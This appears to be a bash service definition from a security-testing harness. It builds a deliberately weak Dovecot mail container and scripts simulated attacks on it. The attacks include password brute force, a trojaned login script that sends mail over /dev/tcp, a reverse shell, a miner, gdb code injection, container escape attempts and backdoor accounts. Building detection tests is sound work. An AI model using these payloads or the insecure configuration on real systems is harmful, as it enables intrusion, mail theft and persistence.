# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# dovecot with IMAP and LMTP over maildirs, users of a passwd-file, a master user, TLS, quota, and a
# script after each login that notes when a user was last here.

# shellcheck disable=SC2034 # read by lib.bash and rare.bash
set=development containers=(dovecot) port=143 data_directory=/var/mail/boxes
configuration_file=/etc/dovecot/dovecot.conf
health=(/usr/bin/doveadm service status)
image_packages=(dovecot-imapd dovecot-lmtpd coreutils findutils grep sed gzip dash bash base-files libc-bin
	netbase hostname tzdata procps)
rare_own=(new_user certificate broken_mail quota_full old_index shared_folder)
rare_not=()

image_prepare() {
	local tree=$1 i
	printf '%s\n' 'dovecot:x:106:106::/usr/lib/dovecot:/usr/sbin/nologin' \
		'dovenull:x:107:107::/nonexistent:/usr/sbin/nologin' 'vmail:x:5000:5000::/var/mail:/usr/sbin/nologin' \
		>>"$tree/etc/passwd"
	printf '%s\n' dovecot:x:106: dovenull:x:107: vmail:x:5000: >>"$tree/etc/group"
	mkdir -p "$tree"/etc/dovecot/tls "$tree"/var/log/dovecot "$tree"/var/lib/dovecot "$tree/usr/local/bin" \
		"$tree/var/mail/boxes"
	rm -f "$tree"/etc/dovecot/*.conf
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
		-keyout "$tree/etc/dovecot/tls/key.pem" -out "$tree/etc/dovecot/tls/cert.pem" 2>/dev/null
	chmod 600 "$tree/etc/dovecot/tls/key.pem"
	for i in $(seq 12); do
		# {PLAIN}: hashes would take longer than what is asked.
		printf 'user%d@example.test:{PLAIN}secret%d::::::\n' "$i" "$i"
	done >"$tree/etc/dovecot/users"
	printf 'eve@example.test:{PLAIN}dragon5::::::\n' >>"$tree/etc/dovecot/users"
	printf 'postmaster:{PLAIN}master-secret::::::\n' >"$tree/etc/dovecot/masters"
	chown root:106 "$tree"/etc/dovecot/{users,masters}
	chmod 640 "$tree"/etc/dovecot/{users,masters}
	cat >"$tree/etc/dovecot/dovecot.conf" <<-'CONF'
	protocols = imap lmtp
	listen = *
	log_path = /var/log/dovecot/dovecot.log
	info_log_path = /var/log/dovecot/info.log
	login_trusted_networks = 10.88.0.0/24
	disable_plaintext_auth = no
	auth_mechanisms = plain login
	auth_master_user_separator = *
	auth_failure_delay = 0
	ssl = yes
	ssl_cert = </etc/dovecot/tls/cert.pem
	ssl_key = </etc/dovecot/tls/key.pem
	mail_location = maildir:~/Maildir
	mail_uid = vmail
	mail_gid = vmail
	first_valid_uid = 5000
	mail_plugins = quota zlib acl
	passdb {
	  driver = passwd-file
	  args = username_format=%u /etc/dovecot/masters
	  master = yes
	  result_success = continue
	}
	passdb {
	  driver = passwd-file
	  args = username_format=%u /etc/dovecot/users
	}
	userdb {
	  driver = static
	  args = uid=vmail gid=vmail home=/var/mail/boxes/%d/%n
	}
	namespace inbox {
	  inbox = yes
	  separator = /
	  mailbox Sent {
	    auto = subscribe
	  }
	  mailbox Drafts {
	    auto = subscribe
	  }
	  mailbox Trash {
	    auto = subscribe
	  }
	  mailbox Archive {
	    auto = create
	  }
	}
	protocol imap {
	  mail_plugins = $mail_plugins imap_quota imap_acl imap_zlib
	  mail_max_userip_connections = 30
	}
	plugin {
	  quota = maildir:User quota
	  quota_rule = *:storage=20M
	  acl = vfile
	  # A master user has the rights of the user whose mail it reads.
	  acl_user = %u
	  master_user = %u
	}
	service imap {
	  executable = imap imap-postlogin
	}
	service imap-postlogin {
	  executable = script-login /usr/local/bin/last-login
	  user = vmail
	  unix_listener imap-postlogin {
	  }
	}
	service imap-login {
	  service_count = 1
	  process_min_avail = 1
	}
	# No address waits because of wrong passwords.
	service anvil {
	  unix_listener anvil-auth-penalty {
	    mode = 0
	  }
	}
	service lmtp {
	  inet_listener lmtp {
	    port = 24
	  }
	}
	CONF
	cat >"$tree/usr/local/bin/last-login" <<-'SCRIPT'
	#!/bin/sh
	# Called by script-login before a user's imap process, whose command follows.
	echo "$(date '+%F %T') $IP" >"$HOME/last-login" 2>/dev/null
	exec "$@"
	SCRIPT
	chmod 755 "$tree/usr/local/bin/last-login"
	chown 5000:5000 "$tree/var/mail/boxes"
}

# The logs are not on the volumes' disk: dovecot ends when it cannot write them.
container_fields() {
	arguments=(/usr/sbin/dovecot -F)
	volumes=(/var/mail/boxes)
}

peers() {
	:
}

# mail KIND [USER PASSWORD]: a number of the seed's chooses the user, if none is named.
mail() {
	local n user password
	n=$(between 1 12)
	user=${2:-user$n@example.test} password=${3:-secret$n}
	client_stdin python3 - "$own_address" "$user" "$password" "$(between 1 100000)" "$1" \
		<"$here/services/dovecot/mail.py"
}

ready() {
	mail deliver user1@example.test && mail read user1@example.test secret1
}

request() {
	mail "$(pick deliver deliver deliver read read read search append folders flags move status starttls plain \
		quota)"
	[ $((RANDOM % 12)) != 0 ] || mail read user3@example.test wrong
}

reload_service() {
	container_signal dovecot HUP
}

# The logs' rotation, a reload, and old mail thrown away by doveadm.
administer() {
	local logs
	logs=$(image_path dovecot /var/log/dovecot)
	mv "$logs/info.log" "$logs/info.log.1"
	container_signal dovecot USR1
	session dovecot /usr/bin/doveadm expunge -u "user$(between 1 12)@example.test" mailbox Trash all
	reload_service
}

# ---- rare events ----

rare_new_user() {
	keep_file dovecot /etc/dovecot/users
	keep_file dovecot /var/mail/boxes/example.test/anna
	echo 'anna@example.test:{PLAIN}pear::::::' >>"$(image_path dovecot /etc/dovecot/users)"
	mail deliver anna@example.test
	mail read anna@example.test pear
}

rare_certificate() {
	certificate_renew dovecot /etc/dovecot/tls
	reload_service
	sleep 2
	mail read
}

# A file in a maildir that is no message.
rare_broken_mail() {
	keep_file dovecot "/var/mail/boxes/example.test/user1/Maildir/cur/1700000000.M1P1.broken:2,S"
	local dir
	dir=$(volume_path dovecot /var/mail/boxes)/example.test/user1/Maildir/cur
	head -c 20000 /dev/urandom >"$dir/1700000000.M1P1.broken:2,S"
	chown 5000:5000 "$dir/1700000000.M1P1.broken:2,S"
	mail read user1@example.test secret1
}

# A mailbox with more than it may hold.
rare_quota_full() {
	local dir
	dir=$(volume_path dovecot /var/mail/boxes)/example.test/user2
	head -c 25M /dev/urandom | base64 >"$dir/Maildir/cur/1700000001.M1P1.large,S=34000000:2,S"
	chown 5000:5000 "$dir"/Maildir/cur/*.large*
	rm -f "$dir/Maildir/maildirsize"
	mail deliver user2@example.test
	mail quota user2@example.test secret2
	rm -f "$dir"/Maildir/cur/*.large* "$dir/Maildir/maildirsize"
}

# An index that another version wrote, which is made anew.
rare_old_index() {
	local dir
	dir=$(volume_path dovecot /var/mail/boxes)/example.test/user1/Maildir
	head -c 500 /dev/urandom >"$dir/dovecot.index.log"
	rm -f "$dir/dovecot.index.cache"
	mail read user1@example.test secret1
}

rare_shared_folder() {
	session dovecot /usr/bin/doveadm acl set -u user1@example.test INBOX user=user2@example.test lookup read
	session dovecot /usr/bin/doveadm mailbox status -u user1@example.test all '*'
	session dovecot /usr/bin/doveadm acl delete -u user1@example.test INBOX user=user2@example.test
}

# ---- attacks ----

# mail_for_all: everybody has a letter, so that there is something to steal.
mail_for_all() {
	local i
	for i in 1 2 3 4 5 6; do
		mail deliver "user$i@example.test"
	done
}

# Passwords are tried until one fits; then that user's mail is read.
attack_brute_force() {
	local word
	harm exec /usr/lib/dovecot/imap-login
	harm read '/var/mail/boxes/example.test/eve/*'
	mail deliver eve@example.test
	for word in 123456 password letmein monkey dragon{1..9}; do
		! mail all eve@example.test "$word" | grep -c letter || return 0
	done
	return 1
}

# The script after a login is replaced by code in the root process: from now on each login tells the thief.
attack_login_script() {
	harm write /usr/local/bin/last-login
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	thief_begin
	cat >"$(image_path dovecot /tmp/login)" <<-SCRIPT
	#!/bin/bash
	(echo "login \$USER"; cat "\$HOME"/Maildir/{new,cur}/*) >/dev/tcp/$peer_address/4444
	exec "\$@"
	SCRIPT
	inject_pid "${container_pid[dovecot]}" 'call (int) system("cat /tmp/login >/usr/local/bin/last-login")'
	mail deliver user4@example.test
	mail read user4@example.test secret4
	thief_got 'login user4'
	thief_got 'letter'
}

# A plugin of the attacker's: written beside the true ones, named in the configuration, loaded at a login.
attack_plugin_loaded() {
	local modules
	modules=/usr/lib/dovecot/modules
	harm write "$modules/lib99_helper_plugin.so"
	harm rename /etc/dovecot/dovecot.conf
	harm mapx "$modules/lib99_helper_plugin.so"
	harm connect "$peer_address:4444"
	thief_begin
	preload_library "$(image_path dovecot /tmp/helper)" /etc/passwd
	inject_pid "${container_pid[dovecot]}" "call (int) system(\"umask 022; \
cp /tmp/helper $modules/lib99_helper_plugin.so; \
sed -i 's/imap_quota imap_acl/imap_quota helper imap_acl/' /etc/dovecot/dovecot.conf\")"
	reload_service
	sleep 2
	mail read user5@example.test secret5 || true
	thief_got '^root:'
}

# Code inside a user's imap process, as after an overflow: a shell as the owner of all mail.
attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm write /tmp/out
	held_session
	inject dovecot 'dovecot/imap( |$)' 'call (int) system("id >/tmp/out; cat /etc/passwd >>/tmp/out")'
	grep -q 'uid=5000' "$(image_path dovecot /tmp/out)"
}

# held_session: a login that stays for a while.
held_session() {
	local i
	mail deliver user6@example.test
	connection_held 143 'a login user6@example.test secret6\r\nb select INBOX\r\n' '^b OK'
}

# Code inside the root process: the keys, the passwords, and no program.
attack_code_credentials() {
	harm read /etc/shadow
	harm read /etc/dovecot/masters
	inject_pid "${container_pid[dovecot]}" 'print (int) open("/etc/shadow", 0)' \
		'print (int) open("/etc/dovecot/masters", 0)' | tee "$stage/answer"
	[ "$(grep -cE '= [0-9]+' "$stage/answer")" = 2 ]
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	harm exec /usr/bin/id
	thief_shell 'id; cat /etc/dovecot/users; ls -la /root; exit'
	inject_pid "${container_pid[dovecot]}" \
		"call (int) system(\"bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1' &\")"
	thief_got 'uid=0'
}

attack_miner() {
	harm write /var/tmp/.imapd
	harm exec /var/tmp/.imapd
	harm connect "$peer_address:3333"
	pool_begin
	cp "${miner:?}" "$(image_path dovecot /tmp/x)"
	inject_pid "${container_pid[dovecot]}" \
		"call (int) system(\"cp /tmp/x /var/tmp/.imapd; chmod 755 /var/tmp/.imapd; \
/var/tmp/.imapd $peer_address 3333 3 &\")"
	pool_got
}

# Ways out of the container, tried by the process of one user, who needs no capability for the last.
attack_escape() {
	harm call unshare
	harm call mount
	held_session
	# prctl(4): its files in /proc are its own again. 0x10020000: a user and a mount namespace of its own.
	# shellcheck disable=SC2016 # of gdb
	inject_pid "$(tasks_named dovecot 'dovecot/imap( |$)' | head -n 1)" \
		'print (int) mknod("/tmp/disk", 0x6180, 0x800)' 'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
		'print (int) open("/proc/1/root/etc/shadow", 0)' 'print (int) unshare(0x10020000)' \
		'call (int) prctl(4, 1, 0, 0, 0)' 'set $map = (int) open("/proc/self/uid_map", 1)' \
		'print (long) write($map, "0 5000 1", 8)' \
		'print (int) mount("none", "/tmp", "tmpfs", 0, 0)' >"$stage/answer"
	cat "$stage/answer"
	grep -q '\$7 = 0' "$stage/answer"
}

# A door of the attacker's: a login to the account of the owner of all mail.
attack_persistence() {
	harm write /etc/dovecot/masters
	harm write /etc/passwd
	inject_pid "${container_pid[dovecot]}" 'call (int) system("echo backdoor:{PLAIN}open:::::: \
>>/etc/dovecot/masters; echo ops:x:0:0::/:/bin/sh >>/etc/passwd")'
	mail deliver user2@example.test
	mail all 'user2@example.test*backdoor' open | grep -c letter
}

# ---- adaptive: known calls, files and peers only ----

# The master user's password was stolen: all users' mail is read.
adaptive_mass_reading() {
	harm read '/var/mail/boxes/example.test/user*'
	mail_for_all
	mail harvest "$(printf 'user%d@example.test,' 1 2 3 4 5)user6@example.test" master-secret >"$stage/harvest"
	[ "$(grep -c '^Subject:' "$stage/harvest")" -ge 6 ]
}

# Code inside one user's imap process reads the letters of others: they have the same owner.
adaptive_other_boxes() {
	local file commands=() n=0 boxes
	harm read '/var/mail/boxes/example.test/user[1-5]/*'
	mail_for_all
	held_session
	boxes=$(volume_path dovecot /var/mail/boxes)
	while read -r file; do
		commands+=("print (int) open(\"/var/mail/boxes/$file\", 0)" 'call (int) close($)')
		n=$((n + 1))
	done < <(cd "$boxes" && find example.test/user[1-5]/Maildir/{cur,new} -type f | head -n 30)
	inject_pid "$(tasks_named dovecot 'dovecot/imap( |$)' | head -n 1)" "${commands[@]}" | tee "$stage/answer"
	[ "$(grep -cE '= [0-9]+$' "$stage/answer")" -ge "$n" ]
}

# The same code changes letters of others.
adaptive_mail_forged() {
	local file
	harm write '/var/mail/boxes/example.test/user1/Maildir/*'
	mail deliver user1@example.test
	held_session
	file=$(cd "$(volume_path dovecot /var/mail/boxes)" &&
		find example.test/user1/Maildir/{cur,new} -type f | head -n 1)
	# shellcheck disable=SC2016 # of gdb
	inject_pid "$(tasks_named dovecot 'dovecot/imap( |$)' | head -n 1)" \
		"set \$fd = (int) open(\"/var/mail/boxes/$file\", 1)" 'print (long) write($fd, "forged", 6)' \
		'call (int) close($fd)' | grep -c '= 6$'
}
